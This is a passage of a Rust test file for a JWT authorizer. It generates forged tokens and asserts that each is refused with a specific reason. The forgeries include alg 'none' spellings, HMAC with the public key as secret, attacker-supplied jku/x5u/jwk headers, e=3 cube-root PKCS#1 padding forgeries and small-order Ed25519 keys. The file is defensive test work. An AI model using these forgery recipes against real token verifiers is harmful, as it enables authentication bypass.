//! Attacks, each with the one reason it must be refused for. Where an attack could pass for another one, a row beside
//! it shows that the same thing done right is allowed.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "tests")]
#![allow(clippy::disallowed_methods, reason = "tokens are made for now")]

#[path = "support/mod.rs"]
mod support;

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use std::sync::LazyLock;

use aws_lc_rs::digest::{self, SHA1_FOR_LEGACY_USE_ONLY, SHA256, SHA384};
use aws_lc_rs::encoding::{AsDer, Pkcs8V1Der};
use aws_lc_rs::rsa::{KeyPair, KeySize};
use num_bigint::BigUint;
use serde_json::{Value, json};
use support::events::{STAGE, bearer, event};
use support::idp::Idp;
use support::process::Lambda;
use support::tokens::{self, SigningKey, b64};
use token_authorizer::{
    Authorizer, Config, Failure, Invocation, MAX_TOKEN_BYTES, Reason, StepState,
};

const ISSUER: &str = "https://issuer.example.com";
const AUDIENCE: &str = "https://pets.example.com";

const ALLOW: &str = "Allow";
const MALFORMED: &str = "token_malformed";
const TOO_LONG: &str = "token_too_long";
const CRITICAL: &str = "critical_header_unsupported";
const TYPE: &str = "type_not_accepted";
const ALGORITHM: &str = "algorithm_not_allowed";
const UNTRUSTED: &str = "issuer_untrusted";
const KEY: &str = "key_unknown";
const SIGNATURE: &str = "signature_invalid";
const MISSING: &str = "claim_missing";
const INVALID: &str = "claim_invalid";
const EVENT: &str = "event_unsupported";

#[test]
fn every_attack_gets_exactly_its_reason() {
    let attacker = Idp::start();
    let honest = Idp::start();
    let mut table = Table::new();
    unsigned(&mut table);
    public_key_as_secret(&mut table);
    keys_brought_along(&mut table, &attacker, &honest);
    broken_signatures(&mut table);
    forged_paddings(&mut table);
    other_algorithms(&mut table);
    unusable_keys(&mut table);
    keys_of_others(&mut table, &honest);
    encoding(&mut table);
    other_forms(&mut table);
    json_texts(&mut table);
    sizes(&mut table);
    headers(&mut table);
    times(&mut table);
    issuers(&mut table);
    audiences(&mut table);
    principals(&mut table);
    key_ids(&mut table);
    credentials(&mut table);
    events(&mut table);
    table.run();
    assert_eq!(attacker.connections(), 0, "the attacker's server was asked");
    table.assert_documented();
}

fn unsigned(table: &mut Table) {
    table.group("unsigned, `none` in every spelling");
    let valid = good();
    let (header, payload, signature) = segments(&valid);
    for alg in [
        "none",
        "None",
        "NONE",
        "nOnE",
        " none",
        "none ",
        "none\0",
        "\u{ff4e}one",
        "",
        "null",
        "plain",
    ] {
        let header = b64(json!({"alg": alg, "kid": "k1"}).to_string());
        table.token(
            format!("{alg:?} without a signature"),
            format!("{header}.{payload}."),
            MALFORMED,
        );
        table.token(
            format!("{alg:?} with a signature"),
            format!("{header}.{payload}.{signature}"),
            ALGORITHM,
        );
    }
    table.token("signature taken away", format!("{header}.{payload}."), MALFORMED);
    for alg in [json!(null), json!(0), json!(true), json!(["RS256"]), json!({"RS256": null})] {
        table.token(
            format!("alg is {alg}"),
            K1.token_with(&json!({"alg": alg, "kid": "k1"}), &claims()),
            MALFORMED,
        );
    }
    table.token("no alg", K1.token_with(&json!({"kid": "k1"}), &claims()), MALFORMED);
}

fn public_key_as_secret(table: &mut Table) {
    table.group("HMAC with the public key as the secret");
    let pkcs1 = pem("RSA PUBLIC KEY", &K1.pkcs1_der());
    let secrets: Vec<(&str, Vec<u8>)> = vec![
        ("SPKI PEM", K1.spki_pem().into()),
        ("SPKI PEM without the last line end", K1.spki_pem().trim_end().into()),
        ("SPKI PEM with CRLF", K1.spki_pem().replace('\n', "\r\n").into()),
        ("SPKI DER", K1.spki_der()),
        ("PKCS#1 PEM", pkcs1.clone().into()),
        ("PKCS#1 PEM without the last line end", pkcs1.trim_end().into()),
        ("PKCS#1 DER", K1.pkcs1_der()),
        ("JWK", K1.jwk().to_string().into()),
        ("JWKS", tokens::jwks(&[&K1]).to_string().into()),
        ("modulus", K1.modulus()),
        ("modulus with a leading zero", [&[0][..], &K1.modulus()].concat()),
        ("modulus in base64url", b64(K1.modulus()).into()),
        ("key id", "k1".into()),
        ("nothing", vec![]),
    ];
    let mut silent = K1.jwk();
    silent.as_object_mut().unwrap().remove("alg");
    for (name, secret) in &secrets {
        for alg in ["HS256", "HS384", "HS512"] {
            let token = SigningKey::hmac("k1", secret).with_alg(alg).token(&claims());
            table.token(format!("{alg}, {name}"), token.clone(), ALGORITHM);
            let settings =
                [("ALGORITHMS", "RS256 HS256 HS384 HS512".to_owned()), ("JWKS", set(&[&silent]))];
            table.token_under(&settings, format!("{alg} allowed as well, {name}"), token, KEY);
        }
    }
    let ec = SigningKey::es256("k1");
    let settings = [("ALGORITHMS", "ES256 HS256".to_owned()), ("JWKS", set(&[&ec.jwk()]))];
    for (name, secret) in [("DER", ec.spki_der()), ("PEM", ec.spki_pem().into())] {
        let token = SigningKey::hmac("k1", &secret).token(&claims());
        table.token_under(&settings, format!("HS256 with an EC key's SPKI {name}"), token, KEY);
    }
}

fn keys_brought_along(table: &mut Table, attacker: &Idp, honest: &Idp) {
    table.group("`jwk`, `jku`, `x5u`, `x5c` in the header");
    let own = SigningKey::rsa_other("k1", 1);
    attacker.serve(&[&own]);
    honest.serve(&[&K1]);
    let network =
        [("ISSUER", honest.issuer()), ("JWKS_URI", honest.jwks_uri()), ("JWKS", String::new())];
    let certificate = b64(own.spki_der());
    let members = [
        ("jwk", own.jwk()),
        ("jku", json!(attacker.jwks_uri())),
        ("jku", json!(format!("{ISSUER}@{}", attacker.jwks_uri().trim_start_matches("http://")))),
        ("x5u", json!(attacker.issuer() + "/certificate.pem")),
        ("x5c", json!([certificate])),
        ("x5t", json!("dGh1bWI")),
        ("x5t#S256", json!("dGh1bWI")),
    ];
    for (member, value) in members {
        for (kid, expected) in [(Some("k1"), SIGNATURE), (Some("own"), KEY), (None, SIGNATURE)] {
            let mut header = json!({"alg": "RS256", "typ": "JWT", member: value});
            if let Some(kid) = kid {
                header["kid"] = json!(kid);
            }
            let name = format!("{member} {value:.20}, kid {kid:?}");
            table.token(name.clone(), own.token_with(&header, &claims()), expected);
            let token = own.token_with(&header, &claims_with(json!({"iss": honest.issuer()})));
            table.token_under(&network, format!("{name}, keys of a provider"), token, expected);
        }
        let header = json!({"alg": "RS256", "kid": "k1", member: value});
        table.token(
            format!("{member} in a good token is not looked at"),
            K1.token_with(&header, &claims()),
            ALLOW,
        );
    }
    let kid = json!({"alg": "RS256", "kid": attacker.jwks_uri()});
    table.token("kid is the address of a key set", own.token_with(&kid, &claims()), KEY);
    let issuer = claims_with(json!({"iss": attacker.issuer()}));
    table.token_under(&network, "iss is the attacker's provider", own.token(&issuer), UNTRUSTED);
}

fn broken_signatures(table: &mut Table) {
    table.group("signature cut, extended, zeroed, changed");
    let (ec, p384, ed) =
        (SigningKey::es256("k1"), SigningKey::es384("k1"), SigningKey::ed25519("k1"));
    let secret = SigningKey::hmac("k1", &[7; 32]);
    for key in [&*K1, &ec, &p384, &ed, &secret] {
        let settings = [("ALGORITHMS", key.alg().to_owned()), ("JWKS", set(&[&key.jwk()]))];
        let signed = |claims: Value| {
            let token = key.token(&claims);
            let (signed, _) = token.rsplit_once('.').unwrap();
            (signed.to_owned(), key.sign(signed.as_bytes()))
        };
        let (message, signature) = signed(claims());
        let (_, another) = signed(claims_with(json!({"sub": "admin"})));
        let flipped = |bit: usize| {
            let mut signature = signature.clone();
            signature[bit / 8] ^= 1 << (bit % 8);
            signature
        };
        let (half, bits) = (signature.len() / 2, signature.len() * 8);
        let mut rows = vec![
            ("as it is".to_owned(), signature.clone(), ALLOW),
            ("of other claims".to_owned(), another, SIGNATURE),
            ("first byte cut".to_owned(), signature[1..].to_vec(), SIGNATURE),
            ("last byte cut".to_owned(), signature[..signature.len() - 1].to_vec(), SIGNATURE),
            ("one byte left".to_owned(), signature[..1].to_vec(), SIGNATURE),
            ("half".to_owned(), signature[..half].to_vec(), SIGNATURE),
            ("zero before".to_owned(), [&[0][..], &signature].concat(), SIGNATURE),
            ("zero after".to_owned(), [&signature[..], &[0]].concat(), SIGNATURE),
            ("twice".to_owned(), signature.repeat(2), SIGNATURE),
            (
                "halves swapped".to_owned(),
                [&signature[half..], &signature[..half]].concat(),
                SIGNATURE,
            ),
            ("all zeros".to_owned(), vec![0; signature.len()], SIGNATURE),
            ("one".to_owned(), [vec![0; signature.len() - 1], vec![1]].concat(), SIGNATURE),
            ("all ones".to_owned(), vec![0xff; signature.len()], SIGNATURE),
            ("12 KiB".to_owned(), vec![0x5a; 11 * 1024], SIGNATURE),
        ];
        rows.extend(
            [0, 1, 7, half * 8, bits / 3, bits - 1]
                .map(|bit| (format!("bit {bit}"), flipped(bit), SIGNATURE)),
        );
        for (name, signature, expected) in rows {
            let token = format!("{message}.{}", b64(signature));
            table.token_under(&settings, format!("{}: {name}", key.alg()), token, expected);
        }
        let message = message.replacen('.', &format!(".{}", b64("{")), 1);
        let token = format!("{message}.{}", b64(&signature));
        table.token_under(&settings, format!("{}: payload changed", key.alg()), token, MALFORMED);
    }
    let settings = [("ALGORITHMS", "ES256".to_owned()), ("JWKS", set(&[&ec.jwk()]))];
    let token = ec.token(&claims());
    let (message, _) = token.rsplit_once('.').unwrap();
    let fixed = ec.sign(message.as_bytes());
    let (r, s) = fixed.split_at(32);
    let integer = |number: &[u8]| {
        let number = BigUint::from_bytes_be(number).to_bytes_be();
        let number = if number[0] < 0x80 { number } else { [&[0][..], &number].concat() };
        [&[2, number.len() as u8][..], &number].concat()
    };
    let body = [integer(r), integer(s)].concat();
    let der = [&[0x30, body.len() as u8][..], &body].concat();
    let order = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
    let order = BigUint::parse_bytes(order.as_bytes(), 16).unwrap().to_bytes_be();
    for (name, signature) in [
        ("ES256: in DER", der),
        ("ES256: r is zero", [&[0; 32][..], s].concat()),
        ("ES256: s is zero", [r, &[0; 32]].concat()),
        ("ES256: r and s are the order of the curve", order.repeat(2)),
        ("ES256: the point as signature", ec.spki_der()[27..].to_vec()),
    ] {
        table.token_under(&settings, name, format!("{message}.{}", b64(signature)), SIGNATURE);
    }
}

/// RFC 8017 section 9.2: what an RSA signature of PKCS#1 v1.5 is the power of, and what a careless verifier takes for it.
fn forged_paddings(table: &mut Table) {
    table.group("forged PKCS#1 v1.5 padding, wrong `DigestInfo`");
    const SIZE: usize = 256;
    /// The `DigestInfo` of SHA-256 up to the hash.
    const INFO: [u8; 19] =
        [0x30, 0x31, 0x30, 0x0d, 6, 9, 0x60, 0x86, 0x48, 1, 0x65, 3, 4, 2, 1, 5, 0, 4, 0x20];
    let raw = RawKey::generate();
    let message = raw.signed_part();
    let hash = digest::digest(&SHA256, message.as_bytes());
    let info = [&INFO[..], hash.as_ref()].concat();
    // Block type 1: 00 01 ff .. ff 00 and the rest.
    let padded =
        |rest: &[u8]| [&[0, 1][..], &vec![0xff; SIZE - 3 - rest.len()], &[0], rest].concat();
    let right = padded(&info);
    let changed = |at: usize, byte: u8| {
        let mut block = right.clone();
        block[at] = byte;
        block
    };
    let with_info = |prefix: &[u8]| padded(&[prefix, hash.as_ref()].concat());
    let garbage = |info: &[u8], ones: usize| {
        let head = [&[0, 1][..], &vec![0xff; ones], &[0], info].concat();
        [&head[..], &vec![0x5a; SIZE - head.len()]].concat()
    };
    let end = SIZE - info.len() - 1;
    // OIW 1.3.14.3.2.26 and NIST 2.16.840.1.101.3.4.2.2.
    let sha1 = [0x30, 0x21, 0x30, 9, 6, 5, 0x2b, 0x0e, 3, 2, 0x1a, 5, 0, 4, 0x14];
    let sha384 =
        [0x30, 0x41, 0x30, 0x0d, 6, 9, 0x60, 0x86, 0x48, 1, 0x65, 3, 4, 2, 2, 5, 0, 4, 0x30];
    let of = |algorithm, prefix: &[u8]| {
        padded(&[prefix, digest::digest(algorithm, message.as_bytes()).as_ref()].concat())
    };
    let blocks = [
        ("right", right.clone(), ALLOW),
        ("block type 0", changed(1, 0), SIGNATURE),
        ("block type 2", changed(1, 2), SIGNATURE),
        ("no separator", changed(end, 0xff), SIGNATURE),
        ("padding of fe", changed(100, 0xfe), SIGNATURE),
        ("zero in the padding", changed(100, 0), SIGNATURE),
        ("8 bytes of padding, garbage after the hash", garbage(&info, 8), SIGNATURE),
        ("no padding, garbage after the hash", garbage(&info, 0), SIGNATURE),
        ("one byte of garbage after the hash", garbage(&info, SIZE - 4 - info.len()), SIGNATURE),
        ("hash without DigestInfo", padded(hash.as_ref()), SIGNATURE),
        (
            "no parameters",
            with_info(&[
                0x30, 0x2f, 0x30, 0x0b, 6, 9, 0x60, 0x86, 0x48, 1, 0x65, 3, 4, 2, 1, 4, 0x20,
            ]),
            SIGNATURE,
        ),
        (
            "length in the long form",
            with_info(&[&[0x30, 0x81, 0x31, 0x30, 0x0d][..], &INFO[4..]].concat()),
            SIGNATURE,
        ),
        (
            "garbage in the parameters",
            with_info(
                &[
                    &[0x30, 0x39, 0x30, 0x15][..],
                    &INFO[4..15],
                    &[5, 8, 1, 2, 3, 4, 5, 6, 7, 8, 4, 0x20],
                ]
                .concat(),
            ),
            SIGNATURE,
        ),
        ("OID of SHA-384", with_info(&[&sha384[..18], &[0x20]].concat()), SIGNATURE),
        ("OID of SHA-224", with_info(&[&INFO[..14], &[4, 5, 0, 4, 0x20]].concat()), SIGNATURE),
        ("SHA-1", of(&SHA1_FOR_LEGACY_USE_ONLY, &sha1), SIGNATURE),
        ("SHA-384", of(&SHA384, &sha384), SIGNATURE),
        (
            "the hash of nothing",
            padded(&[&INFO[..], digest::digest(&SHA256, b"").as_ref()].concat()),
            SIGNATURE,
        ),
        ("all ones after the type", [&[0, 1][..], &[0xff; SIZE - 2]].concat(), SIGNATURE),
    ];
    for (name, block, expected) in blocks {
        let signature = raw.power(&block);
        table.token_under(&raw.settings(), name, format!("{message}.{}", b64(signature)), expected);
    }

    let number = |number: &BigUint| {
        let bytes = number.to_bytes_be();
        [vec![0; SIZE.saturating_sub(bytes.len())], bytes].concat()
    };
    let signature = BigUint::from_bytes_be(&raw.power(&right));
    for (name, forged) in [
        ("signature plus modulus", &signature + &raw.modulus),
        ("modulus minus signature", &raw.modulus - &signature),
        ("modulus", raw.modulus.clone()),
        ("modulus less one", &raw.modulus - 1u8),
    ] {
        table.token_under(
            &raw.settings(),
            name,
            format!("{message}.{}", b64(number(&forged))),
            SIGNATURE,
        );
    }

    // With an exponent of 3, a block whose tail is free is a cube of something below the modulus: no key is needed.
    let cube = [("JWKS", set(&[&raw.jwk(3)]))];
    for ones in [0, 1, 8, 20] {
        let head = [&[0, 1][..], &vec![0xff; ones], &[0], &info].concat();
        let root =
            BigUint::from_bytes_be(&[&head[..], &vec![0xff; SIZE - head.len()]].concat()).cbrt();
        assert!(number(&root.pow(3)).starts_with(&head), "a cube with this beginning");
        let token = format!("{message}.{}", b64(number(&root)));
        table.token_under(&cube, format!("cube root, {ones} bytes of padding"), token, SIGNATURE);
    }
    for forged in [0u8, 1, 2] {
        let token = format!("{message}.{}", b64(number(&forged.into())));
        table.token_under(&cube, format!("exponent 3, signature {forged}"), token, SIGNATURE);
    }
}

fn other_algorithms(table: &mut Table) {
    table.group("another algorithm than the list or the key allows");
    let all = "RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES384 EdDSA";
    let mut silent = K1.jwk();
    silent.as_object_mut().unwrap().remove("alg");
    for alg in ["RS384", "RS512", "PS256", "PS384", "PS512"] {
        let token = K1.with_alg(alg).token(&claims());
        table.token(format!("{alg} under RS256 only"), token.clone(), ALGORITHM);
        let settings = [("ALGORITHMS", all.to_owned()), ("JWKS", set(&[&K1.jwk()]))];
        table.token_under(&settings, format!("{alg} with a key for RS256"), token.clone(), KEY);
        let settings = [("ALGORITHMS", all.to_owned()), ("JWKS", set(&[&silent]))];
        table.token_under(&settings, format!("{alg} with a key for any"), token, ALLOW);
        let as_rs256 =
            K1.with_alg(alg).token_with(&json!({"alg": "RS256", "kid": "k1"}), &claims());
        table.token_under(&settings, format!("{alg} said to be RS256"), as_rs256, SIGNATURE);
        let said = K1.token_with(&json!({"alg": alg, "kid": "k1"}), &claims());
        table.token_under(&settings, format!("RS256 said to be {alg}"), said, SIGNATURE);
    }
    for alg in [
        "rs256", "Rs256", "RS256 ", "RS-256", "RS1", "RSA-OAEP", "ES512", "ES256K", "Ed448", "HS1",
        "dir",
    ] {
        table.token(alg, K1.token_with(&json!({"alg": alg, "kid": "k1"}), &claims()), ALGORITHM);
    }
    let (p256, p384, ed) =
        (SigningKey::es256("k1"), SigningKey::es384("k1"), SigningKey::ed25519("k1"));
    for (key, others) in
        [(&p256, ["ES384", "EdDSA"]), (&p384, ["ES256", "EdDSA"]), (&ed, ["ES256", "RS256"])]
    {
        let settings = [("ALGORITHMS", all.to_owned()), ("JWKS", set(&[&key.jwk()]))];
        for other in others {
            let token = key.token_with(&json!({"alg": other, "kid": "k1"}), &claims());
            table.token_under(
                &settings,
                format!("{} key, said to be {other}", key.alg()),
                token,
                KEY,
            );
        }
    }
    let settings = [("ALGORITHMS", "EdDSA".to_owned()), ("JWKS", set(&[&ed.jwk()]))];
    let by_name = ed.token_with(&json!({"alg": "Ed25519", "kid": "k1"}), &claims());
    table.token_under(&settings, "Ed25519 is EdDSA by another name", by_name, ALLOW);
}

fn unusable_keys(table: &mut Table) {
    table.group("weak keys, keys for something else");
    let n = K1.modulus();
    let with = |changes: Value| merged(K1.jwk(), changes);
    let without = |bytes: &[u8], bit: u8| [&[bytes[0] & !bit][..], &bytes[1..]].concat();
    let last = |byte: u8| [&n[..n.len() - 1], &[byte]].concat();
    let rows = [
        ("good", with(json!({})), ALLOW),
        ("512 bits", with(json!({"n": b64([&[0x80][..], &n[193..]].concat())})), KEY),
        ("1024 bits", with(json!({"n": b64([&[0x80][..], &n[129..]].concat())})), KEY),
        ("2047 bits", with(json!({"n": b64([&[0x7f][..], &n[1..]].concat())})), KEY),
        ("8200 bits", with(json!({"n": b64([&[0x80][..], &vec![0x5a; 768], &n].concat())})), KEY),
        ("no bits", with(json!({"n": ""})), KEY),
        ("zero", with(json!({"n": b64([0; 256])})), KEY),
        ("even modulus", with(json!({"n": b64(last(0xfe))})), KEY),
        ("exponent 0", with(json!({"e": "AA"})), KEY),
        ("exponent 1", with(json!({"e": "AQ"})), KEY),
        ("exponent 2", with(json!({"e": "Ag"})), KEY),
        ("exponent 65536", with(json!({"e": "AQAA"})), KEY),
        ("exponent of 40 bits", with(json!({"e": "gAAAAAE"})), KEY),
        ("exponent of 2048 bits", with(json!({"e": b64(&n)})), KEY),
        ("modulus in padded base64", with(json!({"n": b64(&n) + "=="})), KEY),
        ("modulus is a number", with(json!({"n": 5})), KEY),
        ("for encryption", with(json!({"use": "enc"})), KEY),
        ("use in another case", with(json!({"use": "SIG"})), KEY),
        ("use is an array", with(json!({"use": ["sig"]})), KEY),
        ("key_ops sign", with(json!({"key_ops": ["sign"]})), KEY),
        ("key_ops nothing", with(json!({"key_ops": []})), KEY),
        ("key_ops a string", with(json!({"key_ops": "verify"})), KEY),
        ("key_ops verify", with(json!({"key_ops": ["verify"]})), ALLOW),
        ("alg RSA-OAEP", with(json!({"alg": "RSA-OAEP"})), KEY),
        ("alg RS512", with(json!({"alg": "RS512"})), KEY),
        ("alg none", with(json!({"alg": "none"})), KEY),
        ("alg is null", with(json!({"alg": null})), KEY),
        ("kty EC", with(json!({"kty": "EC"})), KEY),
        ("kty rsa", with(json!({"kty": "rsa"})), KEY),
        ("kid is a number", with(json!({"kid": 1})), KEY),
    ];
    let spare = SigningKey::rsa_other("spare", 0).jwk();
    for (name, jwk, expected) in rows {
        table.token_under(&[("JWKS", set(&[&jwk, &spare]))], name, good(), expected);
    }
    // With an exponent of 1, the padded hash is its own signature.
    let raw = RawKey::generate();
    let message = raw.signed_part();
    let hash = digest::digest(&SHA256, message.as_bytes());
    let info = [0x30, 0x31, 0x30, 0x0d, 6, 9, 0x60, 0x86, 0x48, 1, 0x65, 3, 4, 2, 1, 5, 0, 4, 0x20];
    let block = [&[0, 1][..], &[0xff; 202], &[0], &info, hash.as_ref()].concat();
    let settings = [("JWKS", set(&[&raw.jwk(1), &spare]))];
    table.token_under(&settings, "exponent 1, forged", format!("{message}.{}", b64(block)), KEY);

    // Under a point of small order, R = the identity and S = 0 are a signature of some messages, or of all. Little
    // endian y; the last three are 0, 1 and -1 with p added, and the sign of x is the highest bit.
    let (zeros, ones) = ("00".repeat(31), "ff".repeat(30));
    let identity = [&[1][..], &[0; 63]].concat();
    for (order, y) in [
        ("1", format!("01{zeros}")),
        ("2", format!("ec{ones}7f")),
        ("4", format!("00{zeros}")),
        ("8", "26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05".to_owned()),
        ("8", "c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a".to_owned()),
        ("4, not canonical", format!("ed{ones}7f")),
        ("1, not canonical", format!("ee{ones}7f")),
    ] {
        let digits: Vec<_> = y.bytes().collect();
        let bytes = digits
            .chunks(2)
            .map(|pair| u8::from_str_radix(str::from_utf8(pair).unwrap(), 16).unwrap());
        let x: Vec<u8> = bytes.collect();
        for sign in [0, 0x80] {
            let x = [&x[..31], &[x[31] | sign]].concat();
            let jwk = json!({"kty": "OKP", "crv": "Ed25519", "kid": "k1", "x": b64(&x)});
            let spare = SigningKey::ed25519("spare").jwk();
            let settings = [("ALGORITHMS", "EdDSA".to_owned()), ("JWKS", set(&[&jwk, &spare]))];
            for sub in ["a", "b", "c", "d"] {
                let header = json!({"alg": "EdDSA", "kid": "k1"}).to_string();
                let message = format!(
                    "{}.{}",
                    b64(header),
                    b64(merged(claims(), json!({"sub": sub})).to_string())
                );
                let token = format!("{message}.{}", b64(&identity));
                table.token_under(
                    &settings,
                    format!("Ed25519 key of order {order}, sign {sign}, {sub}"),
                    token,
                    KEY,
                );
            }
        }
    }

    let ec = SigningKey::es256("k1");
    let (jwk, spare) = (ec.jwk(), SigningKey::es256("spare").jwk());
    let x = b64(without(&[0xff; 32], 0x80));
    for (name, changes, expected) in [
        ("good P-256 key", json!({}), ALLOW),
        ("P-256 point not on the curve", json!({"x": x}), KEY),
        ("P-256 point at infinity", json!({"x": b64([0; 32]), "y": b64([0; 32])}), KEY),
        ("P-256 key said to be P-384", json!({"crv": "P-384"}), KEY),
        ("P-256 key said to be secp256k1", json!({"crv": "secp256k1"}), KEY),
        ("P-256 coordinate cut", json!({"y": b64([1; 31])}), KEY),
        ("P-256 without y", json!({"y": ""}), KEY),
    ] {
        let settings = [
            ("ALGORITHMS", "ES256".into()),
            ("JWKS", set(&[&merged(jwk.clone(), changes), &spare])),
        ];
        table.token_under(&settings, name, ec.token(&claims()), expected);
    }
    for (alg, length, expected) in [
        ("HS256", 31, KEY),
        ("HS256", 32, ALLOW),
        ("HS384", 47, KEY),
        ("HS384", 48, ALLOW),
        ("HS512", 63, KEY),
        ("HS512", 64, ALLOW),
    ] {
        let key = SigningKey::hmac("k1", &vec![7; length]).with_alg(alg);
        let long = SigningKey::hmac("spare", &[9; 64]).with_alg(alg);
        let settings =
            [("ALGORITHMS", alg.to_owned()), ("JWKS", tokens::jwks(&[&key, &long]).to_string())];
        table.token_under(
            &settings,
            format!("{alg} with {length} bytes"),
            key.token(&claims()),
            expected,
        );
    }
}

fn keys_of_others(table: &mut Table, honest: &Idp) {
    table.group("signed by another key, or by another issuer's");
    let other = SigningKey::rsa_other("k1", 1);
    let (k2, secret) = (SigningKey::rsa_other("k2", 0), SigningKey::hmac("k1", &[7; 32]));
    table.token("another key under the same kid", other.token(&claims()), SIGNATURE);
    table.token("another key and kid", k2.token(&claims()), KEY);
    let no_kid = |key: &SigningKey| key.token_with(&json!({"alg": key.alg()}), &claims());
    table.token("no kid", no_kid(&K1), ALLOW);
    table.token("another key, no kid", no_kid(&other), SIGNATURE);
    table.token_under(
        &[("JWKS", tokens::jwks(&[&K1, &k2]).to_string())],
        "no kid, two keys fit",
        no_kid(&K1),
        KEY,
    );

    let second = "https://second.example.com";
    let issuers = json!([
        {"issuer": ISSUER, "audience": AUDIENCE, "jwks": tokens::jwks(&[&K1])},
        {"issuer": second, "audience": AUDIENCE, "jwks": tokens::jwks(&[&other, &k2, &secret]), "algorithms": ["RS256", "HS256"]},
    ]);
    let settings = ["ISSUER", "AUDIENCE", "JWKS"].map(|name| (name, String::new()));
    let settings = [&settings[..], &[("ISSUERS", issuers.to_string())]].concat();
    let of = |issuer: &str| claims_with(json!({"iss": issuer}));
    for (name, token, expected) in [
        ("first issuer", K1.token(&of(ISSUER)), ALLOW),
        ("second issuer", other.token(&of(second)), ALLOW),
        ("second issuer's secret", secret.token(&of(second)), ALLOW),
        ("second issuer's key for the first, same kid", other.token(&of(ISSUER)), SIGNATURE),
        ("second issuer's key for the first, its own kid", k2.token(&of(ISSUER)), KEY),
        ("second issuer's secret for the first", secret.token(&of(ISSUER)), ALGORITHM),
        ("first issuer's key for the second", K1.token(&of(second)), SIGNATURE),
        ("an issuer nobody knows", K1.token(&of("https://third.example.com")), UNTRUSTED),
    ] {
        table.token_under(&settings, name, token, expected);
    }
    // A secret that everybody can read is none.
    honest.serve(&[&K1, &SigningKey::hmac("hs", &[7; 64])]);
    let configured = tokens::jwks(&[&SigningKey::hmac("configured", &[9; 64])]).to_string();
    let settings = [
        ("ISSUER", honest.issuer()),
        ("JWKS_URI", honest.jwks_uri()),
        ("JWKS", configured),
        ("ALGORITHMS", "RS256 HS256".to_owned()),
    ];
    let token = SigningKey::hmac("hs", &[7; 64]).token(&of(&honest.issuer()));
    table.token_under(&settings, "a symmetric key from the network", token, KEY);
}

fn encoding(table: &mut Table) {
    table.group("padding, white space, other alphabets, stray bits in each segment");
    // Lengths that leave trailing bits, and signatures with a `-` or `_` somewhere, as nearly all have.
    let token = (0..)
        .map(|n| {
            let header = format!(r#"{{"alg":"RS256","kid":"k1"}}{}"#, " ".repeat(n % 3));
            let payload = format!("{}{}", claims(), " ".repeat(n / 3 % 3));
            K1.token_raw(header.as_bytes(), payload.as_bytes())
        })
        .find(|token| token.split('.').all(|segment| segment.len() % 4 >= 2))
        .unwrap();
    table.token("as it is", token.clone(), ALLOW);
    let parts: Vec<&str> = token.split('.').collect();
    for (index, name) in ["header", "payload", "signature"].into_iter().enumerate() {
        let segment = parts[index];
        let with = |segment: &str| {
            let mut parts = parts.clone();
            parts[index] = segment;
            parts.join(".")
        };
        let (start, end) = segment.split_at(segment.len() / 2);
        let changes = [
            ("padded", segment.to_owned() + &"=".repeat(4 - segment.len() % 4)),
            ("padded once", format!("{segment}=")),
            ("padded in full", format!("{segment}====")),
            ("padded in percent", format!("{segment}%3D")),
            ("padding before", format!("={segment}")),
            ("padding within", format!("{start}={end}")),
            ("form feed before", format!("\u{c}{segment}")),
            ("space after", format!("{segment} ")),
            ("space within", format!("{start} {end}")),
            ("tab within", format!("{start}\t{end}")),
            ("LF within", format!("{start}\n{end}")),
            ("LF after", format!("{segment}\n")),
            ("CR LF within", format!("{start}\r\n{end}")),
            ("vertical tab within", format!("{start}\u{b}{end}")),
            ("no-break space within", format!("{start}\u{a0}{end}")),
            ("zero-width space within", format!("{start}\u{200b}{end}")),
            ("byte order mark before", format!("\u{feff}{segment}")),
            ("NUL within", format!("{start}\0{end}")),
            ("NUL after", format!("{segment}\0")),
            ("+ within", format!("{}+{}", &start[1..], end)),
            ("/ within", format!("{}/{}", &start[1..], end)),
            ("fullwidth letter within", format!("{}\u{ff21}{end}", &start[1..])),
            (
                "one letter more",
                format!("{segment}A{}", if segment.len() % 4 == 3 { "A" } else { "AA" }),
            ),
            ("stray bits", stray_bits(segment)),
            ("cut to an impossible length", segment[..segment.len() / 4 * 4 - 3].to_owned()),
            ("empty", String::new()),
        ];
        for (change, segment) in changes {
            table.token(format!("{name}: {change}"), with(&segment), MALFORMED);
        }
    }
}

fn other_forms(table: &mut Table) {
    table.group("1, 2, 4, 5 segments, JSON serialisation, JWE, nested");
    let valid = good();
    let (header, payload, signature) = segments(&valid);
    let jwe = b64(r#"{"alg":"RSA-OAEP","enc":"A256GCM","kid":"k1"}"#);
    let flat = json!({"protected": header, "payload": payload, "signature": signature});
    let general =
        json!({"payload": payload, "signatures": [{"protected": header, "signature": signature}]});
    let wrong = b64("wrong");
    for (name, token) in [
        ("one segment", header.to_owned()),
        ("two segments", format!("{header}.{payload}")),
        ("four segments", format!("{valid}.{wrong}")),
        ("four segments, signed part first", format!("{header}.{payload}.{wrong}.{signature}")),
        ("five segments", format!("{valid}.{wrong}.{wrong}")),
        ("a thousand segments", "a.".repeat(1000)),
        ("dots", "..".to_owned()),
        ("dot before", format!(".{valid}")),
        ("dot after", format!("{valid}.")),
        ("two tokens with a dot", format!("{valid}.{valid}")),
        ("two tokens with a comma", format!("{valid},{valid}")),
        ("flattened JSON serialisation", flat.to_string()),
        ("general JSON serialisation", general.to_string()),
        ("JSON serialisation in base64url", b64(flat.to_string())),
        ("JWE", format!("{jwe}.{wrong}.{wrong}.{wrong}.{wrong}")),
        ("detached payload", format!("{header}..{signature}")),
        ("token as payload", K1.token_raw(br#"{"alg":"RS256","kid":"k1"}"#, valid.as_bytes())),
        ("token as JSON text", format!("\"{valid}\"")),
    ] {
        table.token(name, token, MALFORMED);
    }
    table.token("JWE header on three segments", format!("{jwe}.{payload}.{signature}"), ALGORITHM);
    for cty in ["JWT", "jwt", "application/jwt", "APPLICATION/JWT"] {
        let header = json!({"alg": "RS256", "kid": "k1", "cty": cty});
        table.token(format!("cty {cty}"), K1.token_with(&header, &claims()), TYPE);
    }
}

/// All of these are signed by the right key.
fn json_texts(table: &mut Table) {
    table.group("duplicate members, byte order marks, not UTF-8, not JSON, deep nesting");
    let header = br#"{"alg":"RS256","kid":"k1"}"#;
